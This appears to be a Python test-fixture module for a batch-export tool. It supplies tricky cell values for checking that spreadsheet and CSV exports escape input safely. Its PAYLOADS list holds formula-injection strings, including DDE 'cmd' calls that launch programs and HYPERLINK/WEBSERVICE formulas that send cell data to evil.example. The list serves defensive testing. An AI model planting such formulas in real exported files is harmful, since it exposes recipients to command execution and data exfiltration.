"""What the tests of exports share: texts that tools get wrong, and an origin."""

from datetime import UTC, datetime
from decimal import Decimal

from claude_batch_desk.core.pricing.estimate import Estimate, Range
from claude_batch_desk.core.results.provenance import ExportNote

PAYLOADS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '=WEBSERVICE("http://evil.example")',
    "{=1+1}",
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "http://evil.example/",
    "file://server/share",
    "internal:Sheet2!A1",
    "%0A=1+1",
)

TRICKY = (
    *PAYLOADS,
    "00123",
    "1.10",
    "1e5",
    "-5",
    "+49 170 1234567",
    "2026-01-02",
    "TRUE",
    "NULL",
    " lead",
    "trail ",
    "\n",
    "\t",
    "\r",
    "  ",
    "a\r\nb",
    "a\rb",
    "a\nb",
    "a\u2028b\u2029c",
    "\x85",
    "\xa0",
    "_x000D_",
    "_x000d_",
    "_x005F_",
    "_x005F_x0041_",
    "_x005F_x005F_x0041_",
    "__x0041_x0041_",
    "_x00",
    "_x0000\x08",
    "\x00",
    "\x0b\x1f\x7f",
    "<r>evil</r>",
    "<r><t>x</t></r>",
    "<r>_x0041_\r &lt; </r>",
    "&amp;<b>]]>",
    "'=1",
    "''=1",
    "'quoted'",
    '"quoted", too',
    "😀",
    "a\u0301",
    "שלום",
)


def note(rows: int, mode: str = "live", **more: object) -> ExportNote:
    practice = mode == "practice"
    about = ExportNote(
        job="Complaints",
        source="complaints.csv",
        source_sha256="ab" * 32,
        rows=rows,
        recipe="Mood",
        model="claude-haiku-5-5",
        mode="practice" if practice else "live",
    )
    return ExportNote(**(vars(about) | more))


ESTIMATE = Estimate(
    model="claude-haiku-5-5",
    rows=3,
    requests=3,
    batch=Range(Decimal("0.0123"), Decimal("0.02"), Decimal("1.5"), Decimal("1234.5")),
    now=Range(Decimal(1), Decimal(2), Decimal(3), Decimal(4)),
    input_tokens=1,
    output_tokens=1,
    counted=1,
    tried=1,
    prices_date="2026-11-22",
)
NOON = datetime(2026, 11, 22, 12, 30, tzinfo=UTC)
